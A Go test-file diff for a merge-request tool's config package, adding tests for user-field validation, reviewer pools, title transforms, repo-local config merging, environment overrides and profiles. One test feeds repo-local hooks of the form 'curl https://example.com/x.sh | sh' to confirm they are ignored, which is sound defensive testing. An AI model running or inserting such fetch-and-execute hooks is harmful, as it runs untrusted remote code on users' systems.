@@ -459,8 +459,14 @@ func TestValidateGitLabAssignee(t *testing.T) {
 		{"contains special chars", "john#doe", "reviewer", config.ErrGitLabAssigneeInvalid},
 		{"too long 40 chars", "abcdefghijklmnopqrstuvwxyz12345678901234", "reviewer", config.ErrGitLabAssigneeInvalid},
 		{"too long 50 chars", "abcdefghijklmnopqrstuvwxyz123456789012345678901234", "reviewer", config.ErrGitLabAssigneeInvalid},
+		{"current user sentinel", "@me", "reviewer", nil},
+		{"current user alias", "@self", "reviewer", nil},
+		{"sentinel with suffix", "@me2", "reviewer", config.ErrGitLabAssigneeInvalid},
 		{"consecutive hyphens", "john--doe", "reviewer", nil}, // This is actually valid
 		{"consecutive underscores", "john__doe", "reviewer", nil}, // This is actually valid
+		{"user id", "id:12345", "reviewer", nil},
+		{"user id not numeric", "id:john", "reviewer", config.ErrGitLabAssigneeInvalid},
+		{"user id zero", "id:0", "reviewer", config.ErrGitLabAssigneeInvalid},
 	}
 
 	for _, tt := range tests {
@@ -510,6 +516,10 @@ func TestValidateGitLabReviewer(t *testing.T) {
 		{"contains period", "assignee", "jane.smith", config.ErrGitLabReviewerInvalid},
 		{"contains space", "assignee", "jane smith", config.ErrGitLabReviewerInvalid},
 		{"too long", "assignee", "abcdefghijklmnopqrstuvwxyz12345678901234", config.ErrGitLabReviewerInvalid},
+		{"current user sentinel", "assignee", "@me", config.ErrReviewerCurrentUser},
+		{"current user alias", "assignee", "@self", config.ErrReviewerCurrentUser},
+		{"user id", "assignee", "id:42", nil},
+		{"user id empty", "assignee", "id:", config.ErrGitLabReviewerInvalid},
 	}
 
 	for _, tt := range tests {
@@ -533,6 +543,85 @@ func TestValidateGitLabReviewer(t *testing.T) {
 	}
 }
 
+// TestValidateReviewerPool tests reviewer_pool validation and its effect on the reviewer field.
+func TestValidateReviewerPool(t *testing.T) {
+	tests := []struct {
+		name      string
+		reviewer  string
+		pool      []string
+		wantError error
+	}{
+		{"pool without reviewer", "", []string{"alice", "bob"}, nil},
+		{"pool with reviewer", "carol", []string{"alice", "bob"}, nil},
+		{"no pool and no reviewer", "", nil, config.ErrGitLabReviewerEmpty},
+		{"invalid pool member", "", []string{"alice", "bob.smith"}, config.ErrGitLabReviewerInvalid},
+		{"current user in pool", "", []string{"alice", "@me"}, config.ErrReviewerCurrentUser},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				GitLab: config.GitLabConfig{Assignee: "assignee", Reviewer: tt.reviewer, ReviewerPool: tt.pool},
+				GitHub: config.GitHubConfig{Assignee: "valid", Reviewer: "valid"},
+			}
+			err := cfg.Validate()
+
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+			} else if err != nil {
+				t.Errorf("Unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+// TestFieldError tests that validation errors name the rejected field and value
+// while still matching their sentinel.
+func TestFieldError(t *testing.T) {
+	tests := []struct {
+		name      string
+		gitlab    config.GitLabConfig
+		wantError error
+		wantField string
+		wantMsg   string
+	}{
+		{"invalid reviewer", config.GitLabConfig{Assignee: "john", Reviewer: "jane.smith"},
+			config.ErrGitLabReviewerInvalid, "Reviewer", "GitLab.Reviewer 'jane.smith' is invalid: contains period"},
+		{"missing reviewer", config.GitLabConfig{Assignee: "john"},
+			config.ErrGitLabReviewerEmpty, "Reviewer", "GitLab.Reviewer is required"},
+		{"invalid pool member", config.GitLabConfig{Assignee: "john", ReviewerPool: []string{"-bob"}},
+			config.ErrGitLabReviewerInvalid, "ReviewerPool", "GitLab.ReviewerPool '-bob' is invalid: starts with '-'"},
+		{"timeout too small", config.GitLabConfig{Assignee: "john", Reviewer: "jane", PipelineTimeout: "10s"},
+			config.ErrTimeoutTooSmall, "PipelineTimeout", "GitLab.PipelineTimeout '10s' is invalid: must be at least 1m0s"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				GitLab: tt.gitlab,
+				GitHub: config.GitHubConfig{Assignee: "valid", Reviewer: "valid"},
+			}
+			err := cfg.Validate()
+
+			if !errors.Is(err, tt.wantError) {
+				t.Fatalf("Expected error %v, got %v", tt.wantError, err)
+			}
+			var fieldErr *config.FieldError
+			if !errors.As(err, &fieldErr) {
+				t.Fatalf("Expected a *config.FieldError, got %T", err)
+			}
+			if fieldErr.Platform != "GitLab" || fieldErr.Field != tt.wantField {
+				t.Errorf("Expected field GitLab.%s, got %s.%s", tt.wantField, fieldErr.Platform, fieldErr.Field)
+			}
+			if err.Error() != tt.wantMsg {
+				t.Errorf("Expected message %q, got %q", tt.wantMsg, err.Error())
+			}
+		})
+	}
+}
+
 // TestValidateGitHubAssignee tests GitHub assignee field validation.
 func TestValidateGitHubAssignee(t *testing.T) {
 	tests := []struct {
@@ -561,6 +650,10 @@ func TestValidateGitHubAssignee(t *testing.T) {
 		{"contains period", "bob.smith", "reviewer", config.ErrGitHubAssigneeInvalid},
 		{"contains space", "bob smith", "reviewer", config.ErrGitHubAssigneeInvalid},
 		{"too long", "abcdefghijklmnopqrstuvwxyz12345678901234", "reviewer", config.ErrGitHubAssigneeInvalid},
+		{"current user sentinel", "@me", "reviewer", nil},
+		{"current user alias", "@self", "reviewer", nil},
+		{"sentinel with suffix", "@me2", "reviewer", config.ErrGitHubAssigneeInvalid},
+		{"user id is GitLab only", "id:12345", "reviewer", config.ErrGitHubAssigneeInvalid},
 	}
 
 	for _, tt := range tests {
@@ -609,6 +702,8 @@ func TestValidateGitHubReviewer(t *testing.T) {
 		{"contains period", "assignee", "alice.review", config.ErrGitHubReviewerInvalid},
 		{"contains space", "assignee", "alice review", config.ErrGitHubReviewerInvalid},
 		{"too long", "assignee", "abcdefghijklmnopqrstuvwxyz12345678901234", config.ErrGitHubReviewerInvalid},
+		{"current user sentinel", "assignee", "@me", config.ErrReviewerCurrentUser},
+		{"current user alias", "assignee", "@self", config.ErrReviewerCurrentUser},
 	}
 
 	for _, tt := range tests {
@@ -1333,6 +1428,209 @@ func TestValidatePipelineTimeout(t *testing.T) {
 	}
 }
 
+func TestValidateApproveTiming(t *testing.T) {
+	tests := []struct {
+		name      string
+		timing    string
+		wantError error
+	}{
+		{"empty (after-wait)", "", nil},
+		{"after-wait", config.ApproveAfterWait, nil},
+		{"before-wait", config.ApproveBeforeWait, nil},
+		{"whitespace trimmed", " before-wait ", nil},
+		{"unknown", "before", config.ErrApproveTimingInvalid},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				GitLab: config.GitLabConfig{
+					Assignee:      "valid",
+					Reviewer:      "valid",
+					ApproveTiming: tt.timing,
+				},
+				GitHub: config.GitHubConfig{
+					Assignee: "valid",
+					Reviewer: "valid",
+				},
+			}
+			err := cfg.Validate()
+
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+			} else if err != nil {
+				t.Errorf("Unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+// TestValidateBodyFooter tests that body_footer must parse as a template.
+func TestValidateBodyFooter(t *testing.T) {
+	tests := []struct {
+		name      string
+		footer    string
+		wantError error
+	}{
+		{"empty", "", nil},
+		{"plain text", "Signed-off-by: team", nil},
+		{"placeholders", "Closes #{{.Issue}} ({{.Branch}})", nil},
+		{"unclosed action", "{{.Branch", config.ErrBodyFooterInvalid},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				BodyFooter: tt.footer,
+				GitLab:     config.GitLabConfig{Assignee: "valid", Reviewer: "valid"},
+				GitHub:     config.GitHubConfig{Assignee: "valid", Reviewer: "valid"},
+			}
+			err := cfg.Validate()
+
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+			} else if err != nil {
+				t.Errorf("Unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+// TestValidatePushUsername tests that push_username must be usable as a Basic auth username.
+func TestValidatePushUsername(t *testing.T) {
+	tests := []struct {
+		name      string
+		username  string
+		wantError error
+	}{
+		{"empty", "", nil},
+		{"account name", "jdoe", nil},
+		{"surrounding spaces trimmed", "  jdoe  ", nil},
+		{"colon", "jdoe:token", config.ErrPushUsernameInvalid},
+		{"inner space", "j doe", config.ErrPushUsernameInvalid},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				GitLab: config.GitLabConfig{Assignee: "valid", Reviewer: "valid", PushUsername: tt.username},
+				GitHub: config.GitHubConfig{Assignee: "valid", Reviewer: "valid"},
+			}
+			err := cfg.Validate()
+
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+			} else if err != nil {
+				t.Errorf("Unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+// TestValidatePushUsernameOrder tests that with several invalid push_username fields,
+// the GitLab one is always reported first.
+func TestValidatePushUsernameOrder(t *testing.T) {
+	cfg := &config.Config{
+		GitLab:  config.GitLabConfig{Assignee: "valid", Reviewer: "valid", PushUsername: "a b"},
+		GitHub:  config.GitHubConfig{Assignee: "valid", Reviewer: "valid", PushUsername: "c:d"},
+		Forgejo: config.ForgejoConfig{PushUsername: "e f"},
+	}
+	for range 20 {
+		var fieldErr *config.FieldError
+		if err := cfg.Validate(); !errors.As(err, &fieldErr) || fieldErr.Platform != "GitLab" {
+			t.Fatalf("Expected the GitLab push_username error, got %v", err)
+		}
+	}
+}
+
+// TestValidateTitleTransform tests that title_transform patterns must compile and
+// max_length must not be negative.
+func TestValidateTitleTransform(t *testing.T) {
+	tests := []struct {
+		name      string
+		transform config.TitleTransform
+		wantError error
+	}{
+		{"empty", config.TitleTransform{}, nil},
+		{"valid", config.TitleTransform{
+			Replace:   []config.TitleReplacement{{Pattern: `^[A-Z]+-\d+:?\s*`}},
+			MaxLength: 72,
+		}, nil},
+		{"invalid pattern", config.TitleTransform{
+			Replace: []config.TitleReplacement{{Pattern: `(`}},
+		}, config.ErrTitleTransformInvalid},
+		{"negative max length", config.TitleTransform{MaxLength: -1}, config.ErrTitleTransformInvalid},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.Config{
+				TitleTransform: tt.transform,
+				GitLab:         config.GitLabConfig{Assignee: "valid", Reviewer: "valid"},
+				GitHub:         config.GitHubConfig{Assignee: "valid", Reviewer: "valid"},
+			}
+			err := cfg.Validate()
+
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+			} else if err != nil {
+				t.Errorf("Unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+// TestTitleTransformApply tests that replacements, capitalization and truncation
+// are applied in order.
+func TestTitleTransformApply(t *testing.T) {
+	ticket := config.TitleReplacement{Pattern: `^[A-Z]+-\d+:?\s*`}
+	tests := []struct {
+		name      string
+		transform config.TitleTransform
+		subject   string
+		expected  string
+		wantError error
+	}{
+		{"unchanged", config.TitleTransform{}, "fix: login", "fix: login", nil},
+		{"ticket removed", config.TitleTransform{Replace: []config.TitleReplacement{ticket}},
+			"PROJ-123: fix login", "fix login", nil},
+		{"capitalized", config.TitleTransform{Replace: []config.TitleReplacement{ticket}, Capitalize: true},
+			"PROJ-123 éviter le crash", "Éviter le crash", nil},
+		{"groups", config.TitleTransform{Replace: []config.TitleReplacement{
+			{Pattern: `^(\w+)\((\w+)\): `, With: "[$2] "},
+		}}, "feat(api): add endpoint", "[api] add endpoint", nil},
+		{"truncated", config.TitleTransform{MaxLength: 10}, "add a very long title", "add a very", nil},
+		{"emptied", config.TitleTransform{Replace: []config.TitleReplacement{ticket}},
+			"PROJ-123", "", config.ErrTitleEmpty},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			title, err := tt.transform.Apply(tt.subject)
+			if tt.wantError != nil {
+				if !errors.Is(err, tt.wantError) {
+					t.Errorf("Expected error %v, got %v", tt.wantError, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Unexpected error: %v", err)
+			}
+			if title != tt.expected {
+				t.Errorf("Expected %q, got %q", tt.expected, title)
+			}
+		})
+	}
+}
+
 // TestLoadWithTimeout tests loading config with timeout fields.
 func TestLoadWithTimeout(t *testing.T) {
 	tests := []struct {
@@ -1630,6 +1928,9 @@ func TestValidateForgejoAssignee(t *testing.T) {
 		{"contains period", "carol.dev", config.ErrForgejoAssigneeInvalid},
 		{"contains space", "carol dev", config.ErrForgejoAssigneeInvalid},
 		{"too long 40 chars", "abcdefghijklmnopqrstuvwxyz12345678901234", config.ErrForgejoAssigneeInvalid},
+		{"current user sentinel", "@me", nil},
+		{"current user alias", "@self", nil},
+		{"sentinel with suffix", "@me2", config.ErrForgejoAssigneeInvalid},
 	}
 
 	for _, tt := range tests {
@@ -1679,6 +1980,8 @@ func TestValidateForgejoReviewer(t *testing.T) {
 		{"contains period", "dave.review", config.ErrForgejoReviewerInvalid},
 		{"contains space", "dave review", config.ErrForgejoReviewerInvalid},
 		{"too long 40 chars", "abcdefghijklmnopqrstuvwxyz12345678901234", config.ErrForgejoReviewerInvalid},
+		{"current user sentinel", "@me", config.ErrReviewerCurrentUser},
+		{"current user alias", "@self", config.ErrReviewerCurrentUser},
 	}
 
 	for _, tt := range tests {
@@ -1917,3 +2220,462 @@ func TestForgejoValidationOrder(t *testing.T) {
 		t.Errorf("Expected ErrForgejoURLInvalid before ErrForgejoAssigneeEmpty, got: %v", err)
 	}
 }
+
+// writeRepoConfig writes a repository-local config file into a temporary repo root.
+func writeRepoConfig(t *testing.T, content string) string {
+	t.Helper()
+
+	repoRoot := t.TempDir()
+	path := filepath.Join(repoRoot, config.RepoConfigFile)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("Failed to write repo config file: %v", err)
+	}
+	return repoRoot
+}
+
+// TestLoadWithRepoRoot tests merging of the repository-local config over the global one.
+func TestLoadWithRepoRoot(t *testing.T) {
+	t.Run("repo-local fields override global field by field", func(t *testing.T) {
+		setupTestConfig(t, validConfigWithForgejo)
+		repoRoot := writeRepoConfig(t, `
+gitlab:
+  reviewer: team-lead
+forgejo:
+  pipeline_timeout: 2h
+`)
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Reviewer != "team-lead" {
+			t.Errorf("GitLab.Reviewer: expected 'team-lead', got '%s'", cfg.GitLab.Reviewer)
+		}
+		if cfg.GitLab.Assignee != "john-doe" {
+			t.Errorf("GitLab.Assignee: expected global 'john-doe', got '%s'", cfg.GitLab.Assignee)
+		}
+		if cfg.Forgejo.PipelineTimeout != "2h" {
+			t.Errorf("Forgejo.PipelineTimeout: expected '2h', got '%s'", cfg.Forgejo.PipelineTimeout)
+		}
+		if cfg.Forgejo.URL != "https://codeberg.org" {
+			t.Errorf("Forgejo.URL: expected global 'https://codeberg.org', got '%s'", cfg.Forgejo.URL)
+		}
+	})
+
+	t.Run("repo-local default labels replace global ones", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo+`
+  default_labels: [global]
+`)
+		repoRoot := writeRepoConfig(t, `
+github:
+  default_labels: [bug, ci]
+`)
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if strings.Join(cfg.GitHub.DefaultLabels, ",") != "bug,ci" {
+			t.Errorf("GitHub.DefaultLabels: expected [bug ci], got %v", cfg.GitHub.DefaultLabels)
+		}
+	})
+
+	t.Run("repo-local squash false overrides global true", func(t *testing.T) {
+		setupTestConfig(t, "squash: true\n"+validConfigNoForgejo)
+		repoRoot := writeRepoConfig(t, `
+squash: false
+`)
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.Squash == nil || *cfg.Squash {
+			t.Errorf("Squash: expected false, got %v", cfg.Squash)
+		}
+		if cfg.GitHub.Squash != nil {
+			t.Errorf("GitHub.Squash: expected unset, got %v", *cfg.GitHub.Squash)
+		}
+	})
+
+	t.Run("repo-local keep_author_reviewer false overrides global true", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo+"  keep_author_reviewer: true\n")
+		repoRoot := writeRepoConfig(t, `
+github:
+  keep_author_reviewer: false
+`)
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitHub.KeepAuthorReviewer == nil || *cfg.GitHub.KeepAuthorReviewer {
+			t.Errorf("GitHub.KeepAuthorReviewer: expected false, got %v", cfg.GitHub.KeepAuthorReviewer)
+		}
+	})
+
+	t.Run("repo-local hooks are ignored", func(t *testing.T) {
+		setupTestConfig(t, "pre_merge_hook: make test\npost_merge_hook: make notify\n"+validConfigNoForgejo)
+		repoRoot := writeRepoConfig(t, `
+pre_merge_hook: curl https://example.com/x.sh | sh
+post_merge_hook: curl https://example.com/y.sh | sh
+`)
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.PreMergeHook != "make test" {
+			t.Errorf("PreMergeHook: expected global 'make test', got '%s'", cfg.PreMergeHook)
+		}
+		if cfg.PostMergeHook != "make notify" {
+			t.Errorf("PostMergeHook: expected global 'make notify', got '%s'", cfg.PostMergeHook)
+		}
+	})
+
+	t.Run("missing repo-local file uses global config", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+
+		cfg, err := config.LoadWithRepoRoot(t.TempDir())
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitHub.Reviewer != "alice-wilson" {
+			t.Errorf("GitHub.Reviewer: expected 'alice-wilson', got '%s'", cfg.GitHub.Reviewer)
+		}
+	})
+
+	t.Run("repo-local file alone is enough", func(t *testing.T) {
+		t.Setenv("HOME", t.TempDir())
+		repoRoot := writeRepoConfig(t, validConfigNoForgejo)
+
+		if _, err := config.LoadWithRepoRoot(repoRoot); err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+	})
+
+	t.Run("merged result is validated", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+		repoRoot := writeRepoConfig(t, `
+github:
+  assignee: "-invalid"
+`)
+
+		_, err := config.LoadWithRepoRoot(repoRoot)
+		if !errors.Is(err, config.ErrGitHubAssigneeInvalid) {
+			t.Errorf("Expected ErrGitHubAssigneeInvalid, got: %v", err)
+		}
+	})
+
+	t.Run("malformed repo-local file", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+		repoRoot := writeRepoConfig(t, "gitlab: [unclosed")
+
+		_, err := config.LoadWithRepoRoot(repoRoot)
+		if err == nil || !strings.Contains(err.Error(), config.RepoConfigFile) {
+			t.Errorf("Expected parse error mentioning %s, got: %v", config.RepoConfigFile, err)
+		}
+	})
+
+	t.Run("neither file exists", func(t *testing.T) {
+		t.Setenv("HOME", t.TempDir())
+
+		_, err := config.LoadWithRepoRoot(t.TempDir())
+		if !errors.Is(err, config.ErrConfigNotFound) {
+			t.Errorf("Expected ErrConfigNotFound, got: %v", err)
+		}
+	})
+}
+
+// TestLoadEnvOverrides tests AUTO_MR_* environment variable overrides.
+func TestLoadEnvOverrides(t *testing.T) {
+	t.Run("env overrides file values", func(t *testing.T) {
+		setupTestConfig(t, validConfigWithForgejo)
+		t.Setenv("AUTO_MR_GITHUB_REVIEWER", "ci-reviewer")
+		t.Setenv("AUTO_MR_FORGEJO_PIPELINE_TIMEOUT", "45m")
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitHub.Reviewer != "ci-reviewer" {
+			t.Errorf("GitHub.Reviewer: expected 'ci-reviewer', got '%s'", cfg.GitHub.Reviewer)
+		}
+		if cfg.GitHub.Assignee != "bob-jones" {
+			t.Errorf("GitHub.Assignee: expected file value 'bob-jones', got '%s'", cfg.GitHub.Assignee)
+		}
+		if cfg.Forgejo.PipelineTimeout != "45m" {
+			t.Errorf("Forgejo.PipelineTimeout: expected '45m', got '%s'", cfg.Forgejo.PipelineTimeout)
+		}
+	})
+
+	t.Run("env overrides repo-local values", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+		repoRoot := writeRepoConfig(t, "gitlab:\n  assignee: repo-user\n")
+		t.Setenv("AUTO_MR_GITLAB_ASSIGNEE", "env-user")
+
+		cfg, err := config.LoadWithRepoRoot(repoRoot)
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "env-user" {
+			t.Errorf("GitLab.Assignee: expected 'env-user', got '%s'", cfg.GitLab.Assignee)
+		}
+	})
+
+	t.Run("env alone without any file", func(t *testing.T) {
+		t.Setenv("HOME", t.TempDir())
+		t.Setenv("AUTO_MR_GITLAB_ASSIGNEE", "john-doe")
+		t.Setenv("AUTO_MR_GITLAB_REVIEWER", "jane-smith")
+		t.Setenv("AUTO_MR_GITHUB_ASSIGNEE", "bob-jones")
+		t.Setenv("AUTO_MR_GITHUB_REVIEWER", "alice-wilson")
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitHub.Reviewer != "alice-wilson" {
+			t.Errorf("GitHub.Reviewer: expected 'alice-wilson', got '%s'", cfg.GitHub.Reviewer)
+		}
+	})
+
+	t.Run("incomplete env without any file is validated", func(t *testing.T) {
+		t.Setenv("HOME", t.TempDir())
+		t.Setenv("AUTO_MR_GITLAB_ASSIGNEE", "john-doe")
+
+		_, err := config.LoadWithRepoRoot("")
+		if !errors.Is(err, config.ErrGitLabReviewerEmpty) {
+			t.Errorf("Expected ErrGitLabReviewerEmpty, got: %v", err)
+		}
+	})
+
+	t.Run("boolean and list fields", func(t *testing.T) {
+		setupTestConfig(t, "squash: true\n"+validConfigNoForgejo)
+		t.Setenv("AUTO_MR_SQUASH", "false")
+		t.Setenv("AUTO_MR_GITHUB_KEEP_AUTHOR_REVIEWER", "true")
+		t.Setenv("AUTO_MR_GITLAB_DEFAULT_LABELS", "bug, ci,")
+		t.Setenv("AUTO_MR_GITHUB_REVIEWER_POOL", "alice-wilson,carol")
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.Squash == nil || *cfg.Squash {
+			t.Errorf("Squash: expected false, got %v", cfg.Squash)
+		}
+		if cfg.GitHub.KeepAuthorReviewer == nil || !*cfg.GitHub.KeepAuthorReviewer {
+			t.Errorf("GitHub.KeepAuthorReviewer: expected true, got %v", cfg.GitHub.KeepAuthorReviewer)
+		}
+		if strings.Join(cfg.GitLab.DefaultLabels, ",") != "bug,ci" {
+			t.Errorf("GitLab.DefaultLabels: expected [bug ci], got %v", cfg.GitLab.DefaultLabels)
+		}
+		if strings.Join(cfg.GitHub.ReviewerPool, ",") != "alice-wilson,carol" {
+			t.Errorf("GitHub.ReviewerPool: expected [alice-wilson carol], got %v", cfg.GitHub.ReviewerPool)
+		}
+	})
+
+	t.Run("invalid boolean", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+		t.Setenv("AUTO_MR_GITLAB_SQUASH", "sometimes")
+
+		_, err := config.LoadWithRepoRoot("")
+		if !errors.Is(err, config.ErrEnvInvalid) {
+			t.Errorf("Expected ErrEnvInvalid, got: %v", err)
+		}
+	})
+
+	t.Run("blank env value is ignored", func(t *testing.T) {
+		setupTestConfig(t, validConfigNoForgejo)
+		t.Setenv("AUTO_MR_GITLAB_ASSIGNEE", "  ")
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "john-doe" {
+			t.Errorf("GitLab.Assignee: expected 'john-doe', got '%s'", cfg.GitLab.Assignee)
+		}
+	})
+}
+
+// TestLoadAllowMissingUsers tests that interactive loads accept empty assignee/reviewer fields.
+func TestLoadAllowMissingUsers(t *testing.T) {
+	const partial = `
+gitlab:
+  assignee: john-doe
+github:
+  pipeline_timeout: 1h
+`
+
+	t.Run("missing users fail by default", func(t *testing.T) {
+		setupTestConfig(t, partial)
+
+		_, err := config.LoadWithRepoRoot("")
+		if !errors.Is(err, config.ErrGitLabReviewerEmpty) {
+			t.Errorf("Expected ErrGitLabReviewerEmpty, got: %v", err)
+		}
+	})
+
+	t.Run("missing users are accepted", func(t *testing.T) {
+		setupTestConfig(t, partial)
+
+		cfg, err := config.LoadWithRepoRoot("", config.AllowMissingUsers())
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "john-doe" || cfg.GitLab.Reviewer != "" {
+			t.Errorf("GitLab users: expected john-doe and empty reviewer, got %q and %q",
+				cfg.GitLab.Assignee, cfg.GitLab.Reviewer)
+		}
+	})
+
+	t.Run("other fields are still validated", func(t *testing.T) {
+		setupTestConfig(t, `
+gitlab:
+  reviewer: "-invalid"
+`)
+
+		_, err := config.LoadWithRepoRoot("", config.AllowMissingUsers())
+		if !errors.Is(err, config.ErrGitLabReviewerInvalid) {
+			t.Errorf("Expected ErrGitLabReviewerInvalid, got: %v", err)
+		}
+	})
+}
+
+// TestLoadProfile tests that a selected profile overrides the flat platform sections.
+func TestLoadProfile(t *testing.T) {
+	const withProfiles = validConfigNoForgejo + `
+profiles:
+  work:
+    gitlab:
+      assignee: work-user
+      reviewer: work-reviewer
+  broken:
+    github:
+      reviewer: "-invalid"
+`
+
+	t.Run("flat sections are used without a profile", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "john-doe" {
+			t.Errorf("GitLab.Assignee: expected 'john-doe', got '%s'", cfg.GitLab.Assignee)
+		}
+	})
+
+	t.Run("profile overrides flat sections", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+
+		cfg, err := config.LoadWithRepoRoot("", config.WithProfile("work"))
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "work-user" || cfg.GitLab.Reviewer != "work-reviewer" {
+			t.Errorf("GitLab users: expected work-user and work-reviewer, got %q and %q",
+				cfg.GitLab.Assignee, cfg.GitLab.Reviewer)
+		}
+		if cfg.GitHub.Assignee != "bob-jones" {
+			t.Errorf("GitHub.Assignee: expected flat value 'bob-jones', got '%s'", cfg.GitHub.Assignee)
+		}
+	})
+
+	t.Run("profile from the environment", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+		t.Setenv("AUTO_MR_PROFILE", "work")
+
+		cfg, err := config.LoadWithRepoRoot("")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "work-user" {
+			t.Errorf("GitLab.Assignee: expected 'work-user', got '%s'", cfg.GitLab.Assignee)
+		}
+	})
+
+	t.Run("implicit default profile", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+
+		cfg, err := config.LoadWithRepoRoot("", config.WithProfile(config.DefaultProfile))
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if cfg.GitLab.Assignee != "john-doe" {
+			t.Errorf("GitLab.Assignee: expected 'john-doe', got '%s'", cfg.GitLab.Assignee)
+		}
+	})
+
+	t.Run("unknown profile", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+
+		_, err := config.LoadWithRepoRoot("", config.WithProfile("home"))
+		if !errors.Is(err, config.ErrProfileNotFound) {
+			t.Fatalf("Expected ErrProfileNotFound, got: %v", err)
+		}
+		if !strings.Contains(err.Error(), "broken, work") {
+			t.Errorf("Expected the defined profiles in the error, got: %v", err)
+		}
+	})
+
+	t.Run("selected profile is validated", func(t *testing.T) {
+		setupTestConfig(t, withProfiles)
+
+		_, err := config.LoadWithRepoRoot("", config.WithProfile("broken"))
+		if !errors.Is(err, config.ErrGitHubReviewerInvalid) {
+			t.Errorf("Expected ErrGitHubReviewerInvalid, got: %v", err)
+		}
+	})
+}
+
+// TestLoadAllowMissingAssigneeOrReviewer tests that only the named user field may be left empty.
+func TestLoadAllowMissingAssigneeOrReviewer(t *testing.T) {
+	const noReviewer = `
+gitlab:
+  assignee: john-doe
+github:
+  assignee: bob-jones
+`
+	const noAssignee = `
+gitlab:
+  reviewer: jane-smith
+github:
+  reviewer: alice-wilson
+`
+
+	t.Run("missing reviewer accepted", func(t *testing.T) {
+		setupTestConfig(t, noReviewer)
+
+		if _, err := config.LoadWithRepoRoot("", config.AllowMissingReviewer()); err != nil {
+			t.Errorf("Unexpected error: %v", err)
+		}
+	})
+
+	t.Run("missing assignee still required", func(t *testing.T) {
+		setupTestConfig(t, noAssignee)
+
+		_, err := config.LoadWithRepoRoot("", config.AllowMissingReviewer())
+		if !errors.Is(err, config.ErrGitLabAssigneeEmpty) {
+			t.Errorf("Expected ErrGitLabAssigneeEmpty, got: %v", err)
+		}
+	})
+
+	t.Run("missing assignee accepted", func(t *testing.T) {
+		setupTestConfig(t, noAssignee)
+
+		if _, err := config.LoadWithRepoRoot("", config.AllowMissingAssignee()); err != nil {
+			t.Errorf("Unexpected error: %v", err)
